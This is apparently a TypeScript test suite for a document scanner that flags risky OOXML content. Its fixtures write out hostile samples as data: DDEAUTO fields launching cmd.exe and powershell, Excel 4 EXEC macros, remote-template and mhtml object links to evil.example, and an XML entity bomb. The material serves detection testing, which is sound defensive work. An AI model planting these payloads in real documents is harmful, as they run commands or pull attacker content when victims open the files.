import assert from 'node:assert/strict'
import { Buffer } from 'node:buffer'
import { describe, it } from 'node:test'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { Unscanned } from '../../../src/domain/verdict.ts'
import { ooxmlOpener } from '../../../src/unpack/documents/ooxml.ts'
import { decodeXml, xmlTokens } from '../../../src/unpack/documents/ooxml-xml.ts'
import { type NodeFacts, nodeOf, type RecordingRun, recordingRun } from '../recording-run.ts'
import { makeOle } from './make-ole.ts'
import { makeDocument, makeField, makeMacroSheet, makeRelations, makeTypes } from './make-ooxml.ts'

const WITHIN = [{ type: 'ooxml', fileName: 'report.docx' }]

async function open(part: string | Buffer, facts: Partial<NodeFacts> = {}): Promise<RecordingRun> {
  const run = recordingRun()
  const node = nodeOf(Buffer.from(part as string), { type: 'xml', within: WITHIN, fileName: 'part.xml', ...facts })
  assert.ok(ooxmlOpener().wants(node), 'not wanted')
  await ooxmlOpener().open(node, run)
  return run
}

function found(run: RecordingRun): Record<string, string> {
  return Object.fromEntries(run.findings.map((finding) => [finding.name, finding.risk]))
}

describe('relations of OOXML parts', () => {
  const rows: readonly {
    type: string
    target: string
    expected: Record<string, string>
    url?: string
    internal?: boolean
  }[] = [
    { type: 'hyperlink', target: 'https://example.org/?a=1&b=2', expected: {}, url: 'https://example.org/?a=1&b=2' },
    { type: 'hyperlink', target: 'mailto:a@example.org', expected: {} },
    {
      type: 'hyperlink',
      target: 'search-ms:query=x&crumb=location:\\\\evil.example@80',
      expected: { 'Document.ActiveLink': 'medium' },
    },
    { type: 'attachedTemplate', target: 'file:///C:\\Users\\a\\Normal.dotm', expected: {} },
    { type: 'attachedTemplate', target: 'file:///srv/a/normal.dotm', expected: {} },
    {
      type: 'attachedTemplate',
      target: 'http://evil.example/t.dotm',
      expected: { 'Document.RemoteTemplate': 'high' },
      url: 'http://evil.example/t.dotm',
    },
    {
      type: 'attachedTemplate',
      target: '\\\\10.0.0.1\\share\\t.dotm',
      expected: { 'Document.RemoteTemplate': 'medium' },
    },
    {
      type: 'attachedTemplate',
      target: 'file://fileserver/t/t.dotm',
      expected: { 'Document.RemoteTemplate': 'medium' },
    },
    {
      type: 'attachedTemplate',
      target: '\\\\evil.example@SSL\\DavWWWRoot\\t.dotm',
      expected: { 'Document.RemoteTemplate': 'high' },
    },
    {
      type: 'oleObject',
      target: 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html',
      expected: { 'Document.RemoteObject': 'high' },
      url: 'http://evil.example/x.html',
    },
    { type: 'oleObject', target: 'file:///C:\\a\\b.xlsx', expected: {} },
    { type: 'oleObject', target: 'embeddings/oleObject1.bin', internal: true, expected: {} },
    {
      type: 'frame',
      target: 'https://evil.example/f',
      expected: { 'Document.RemoteFrame': 'high' },
      url: 'https://evil.example/f',
    },
    {
      type: 'image',
      target: 'https://example.org/p.png',
      expected: { 'Document.RemoteImage': 'low' },
      url: 'https://example.org/p.png',
    },
    { type: 'externalLinkPath', target: 'Book2.xlsx', expected: {} },
    { type: 'constructor', target: '\\\\host\\x', expected: { 'Document.RemotePart': 'low' } },
  ]
  for (const { type, target, expected, url, internal } of rows) {
    it(`say ${JSON.stringify(expected)} of ${internal ? 'internal' : 'external'} ${type} ${target}`, async () => {
      const run = await open(makeRelations([{ type, target, external: internal !== true }]))
      assert.deepEqual(found(run), expected)
      assert.deepEqual(run.urls, url === undefined ? [] : [url])
    })
  }

  it('are read in UTF-16 and with odd prefixes', async () => {
    const text = makeRelations([{ type: 'attachedTemplate', target: 'http://evil.example/t', external: true }])
      .replace('encoding="UTF-8"', 'encoding="UTF-16"')
      .replaceAll('<Relationship', '<x:Relationship')
      .replaceAll('</Relationship', '</x:Relationship')
    const wide = Buffer.from(`\ufeff${text}`, 'utf16le')
    assert.equal(found(await open(wide))['Document.RemoteTemplate'], 'high')
    assert.equal(found(await open(Buffer.from(wide).swap16()))['Document.RemoteTemplate'], 'high')
  })
})

describe('fields of OOXML documents', () => {
  const DDE = { 'Document.Dde': 'high' }
  const rows: readonly { body: string; expected: Record<string, string>; because: string }[] = [
    { body: makeField([' PAGE ']), expected: {}, because: 'a page number' },
    { body: makeField([' HYPERLINK "https://example.org/" ']), expected: {}, because: 'a hyperlink' },
    {
      body: makeField([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ']),
      expected: DDE,
      because: 'DDEAUTO',
    },
    {
      body: makeField(['D', 'DE', 'AU', 'TO cmd', '.exe "/k calc"']),
      expected: DDE,
      because: 'DDEAUTO over five runs',
    },
    { body: '<w:fldSimple w:instr=" DDEAUTO &quot;powershell&quot; x "/>', expected: DDE, because: 'a simple field' },
    {
      body: makeField([' DDE Excel Sheet1 R1C1 ']),
      expected: { 'Document.Dde': 'medium' },
      because: 'a link to Excel',
    },
    {
      body: makeField([' DDEAUTO ', makeField([' QUOTE 99 109 100 46 101 120 101 ']), ' "/k calc"']),
      expected: DDE,
      because: 'a name by QUOTE',
    },
    {
      body: '<w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r>',
      expected: DDE,
      because: 'an instruction without marks',
    },
    { body: '<w:r><w:t>DDEAUTO cmd.exe is how it was done</w:t></w:r>', expected: {}, because: 'text about it' },
  ]
  for (const { body, expected, because } of rows) {
    it(`say ${JSON.stringify(expected)} of ${because}`, async () => {
      assert.deepEqual(found(await open(makeDocument(body))), expected)
    })
  }
})

describe('other OOXML parts', () => {
  it('show Excel 4 macros, hidden letters put together', async () => {
    const run = await open(
      makeMacroSheet({ A1: 'CHAR(69)&"XEC(""calc.exe"")"', A2: 'EXEC("cmd /c http://evil.example/a")', A3: 'HALT()' }),
    )
    assert.equal(found(run)['Macro.XlmStarts'], 'high')
    assert.match(run.members[0]?.bytes.toString() ?? '', /part!A2: =EXEC\("cmd[^\n]*\n[\s\S]*^EXEC\("calc\.exe"\)$/m)
    assert.deepEqual(run.urls, ['http://evil.example/a'])
  })

  it('show names that run by themselves', async () => {
    const names =
      '<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>'
    assert.deepEqual(found(await open(names)), { 'Macro.XlmAutoRun': 'medium' })
    const area = names.replace('_xlnm.Auto_Open', '_xlnm.Print_Area')
    assert.deepEqual(found(await open(area)), {})
  })

  it('show macro formulas of binary workbooks, none of plain ones', async () => {
    const record = (id: number, data: Buffer) =>
      Buffer.concat([Buffer.from(id < 128 ? [id] : [(id & 127) | 128, id >> 7]), Buffer.from([data.length]), data])
    const sheet = (rgce: Buffer) => {
      const cell = Buffer.alloc(8 + 8 + 6)
      cell.writeUInt32LE(rgce.length, 18)
      return Buffer.concat([
        record(129, Buffer.alloc(0)),
        record(0, Buffer.alloc(17)),
        record(9, Buffer.concat([cell, rgce])),
      ])
    }
    const text = Buffer.concat([Buffer.from([0x17, 4, 0]), Buffer.from('calc', 'utf16le')])
    const evil = await open(sheet(Buffer.concat([text, Buffer.from([0x42, 1, 110, 0])])), {
      type: 'data',
      fileName: 'sheet1.bin',
    })
    assert.equal(found(evil)['Macro.XlmStarts'], 'high')
    const plain = await open(sheet(Buffer.from([0x44, 1, 0, 0, 0, 2, 0, 0x1e, 5, 0, 3])), {
      type: 'data',
      fileName: 'sheet1.bin',
    })
    assert.deepEqual([plain.findings, plain.members], [[], []])
  })

  const dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
  const ocx = (id: string) => `<ax:ocx ax:classid="${id}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`
  const macro = makeTypes('application/vnd.ms-word.document.macroEnabled.main+xml')
  const rows: readonly { part: string; expected: Record<string, string>; because: string; fileName?: string }[] = [
    { part: dde, expected: { 'Document.Dde': 'high' }, because: 'a DDE link' },
    {
      part: '<externalLink><externalBook r:id="rId1"/></externalLink>',
      expected: {},
      because: 'a link to another workbook',
    },
    { part: '<customUI onLoad="Init"/>', expected: { 'Macro.AutoRun': 'low' }, because: 'a ribbon' },
    {
      part: ocx('{D27CDB6E-AE6D-11CF-96B8-444553540000}'),
      expected: { 'Document.RiskyObject': 'medium' },
      because: 'Flash',
    },
    { part: ocx('{8BD21D40-EC42-11CE-9E0D-00AA006002F3}'), expected: {}, because: 'a check box' },
    { part: macro, expected: { 'Document.MacrosUnderPlainName': 'medium' }, because: 'macros in a .docx' },
    { part: macro, fileName: 'report.docm', expected: {}, because: 'macros in a .docm' },
    {
      part: makeTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
      expected: {},
      because: 'a .docx',
    },
    {
      part: '<p:sld><a:hlinkHover action="ppaction://program"/></p:sld>',
      expected: { 'Document.RunsProgram': 'high' },
      because: 'a program run by pointing',
    },
    { part: '<p:sld><a:hlinkClick action="ppaction://hlinksldjump"/></p:sld>', expected: {}, because: 'a jump' },
    {
      part: '<connections><connection><webPr url="http://a.example/q"/></connection></connections>',
      expected: { 'Document.ExternalLink': 'low' },
      because: 'a web query',
    },
  ]
  for (const { part, expected, because, fileName } of rows) {
    it(`say ${JSON.stringify(expected)} of ${because}`, async () => {
      assert.deepEqual(
        found(await open(part, { within: [{ type: 'ooxml', fileName: fileName ?? 'report.docx' }] })),
        expected,
      )
    })
  }

  it('of a document in one file come out, and its relations and fields are seen', async () => {
    const ole = makeOle({ A: Buffer.from('a') })
    const flat = `<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>${ole.toString('base64')}</pkg:binaryData></pkg:part><pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData>${makeRelations([{ type: 'attachedTemplate', target: 'http://evil.example/t', external: true }]).slice(56)}</pkg:xmlData></pkg:part></pkg:package>`
    const run = await open(flat, { within: [] })
    assert.equal(run.members[0]?.name, 'word/vbaProject.bin')
    assert.ok(run.members[0]?.bytes.equals(ole))
    assert.equal(found(run)['Document.RemoteTemplate'], 'high')
  })

  it('ActiveMime gives the compound file in it', async () => {
    const ole = makeOle({ A: Buffer.from('a') })
    const mime = Buffer.concat([Buffer.from('ActiveMime\0\0'), Buffer.alloc(38, 1), deflateSync(ole)])
    const run = await open(mime, { type: 'data', within: [] })
    assert.ok(run.members[0]?.bytes.equals(ole))
    await assert.rejects(open(mime.subarray(0, 40), { type: 'data' }), { name: 'Unscanned', reason: 'malformed' })
  })

  it('that are nothing of the kind are not wanted', () => {
    const wants = (bytes: string, within = WITHIN) =>
      ooxmlOpener().wants(nodeOf(Buffer.from(bytes), { type: 'xml', within }))
    assert.equal(wants('<styles/>'), undefined)
    assert.equal(wants('\x89PNG'), undefined)
    assert.equal(wants('<Relationships/>', []), undefined)
    assert.equal(wants('<Relationships/>'), 'looks')
  })
})

describe('XML of parts', () => {
  it('expands no entity but its own five', () => {
    const bomb = `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><r x="&b;&amp;&#65;&#x42;">&b;</r>`
    const tokens = [...xmlTokens(bomb)]
    assert.deepEqual(
      tokens.map((token) =>
        token.kind === 'open' ? token.attributes.get('x') : token.kind === 'text' ? token.text : token.name,
      ),
      ['&b;&AB', '&b;', 'r'],
    )
  })

  it('takes comments, instructions and CDATA for what they are', () => {
    const tokens = [...xmlTokens('<?xml a?><!-- <b> --><a c=">"><![CDATA[<x>&amp;]]></a>')]
    assert.deepEqual(
      tokens.map((token) => (token.kind === 'text' ? token.text : `${token.kind} ${token.name}`)),
      ['open a', '<x>&amp;', 'close a'],
    )
  })

  it('reads the encoding that is declared, and ASCII of one that nobody knows', () => {
    assert.equal(
      decodeXml(Buffer.from('<?xml version="1.0" encoding="windows-1251"?><a>\xcf</a>', 'latin1')).at(-5),
      'П',
    )
    assert.match(decodeXml(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><a/>')), /<a\/>/)
  })

  it('ends on any text', async () => {
    const good = makeDocument(makeField(['DDE', 'AUTO x']))
    const pieces = fc.array(
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '<!--',
        ']]>',
        '<![CDATA[',
        '&#',
        '<w:fldChar w:fldCharType="end"/>',
        '\0',
        '</',
      ),
      { maxLength: 20 },
    )
    const property = fc.asyncProperty(pieces, fc.nat(good.length), async (inserted, at) => {
      const text = `${good.slice(0, at)}${inserted.join('')}${good.slice(at)}`
      const run = recordingRun()
      const node = nodeOf(Buffer.from(text), { type: 'xml', within: WITHIN })
      if (ooxmlOpener().wants(node) === undefined) return
      await (async () => ooxmlOpener().open(node, run))().catch((error) =>
        assert.ok(error instanceof Unscanned, String(error)),
      )
    })
    await fc.assert(property, { numRuns: 300 })
  })

  it('is linear in unclosed marks', () => {
    for (const text of [
      '<'.repeat(200_000),
      '<!--'.repeat(50_000),
      '<a b="'.repeat(50_000),
      '<a '.repeat(50_000),
      '&#'.repeat(100_000),
    ]) {
      let count = 0
      for (const token of xmlTokens(text)) count += token.kind.length
      assert.ok(count > 0 || text.startsWith('<!'))
    }
  })
})
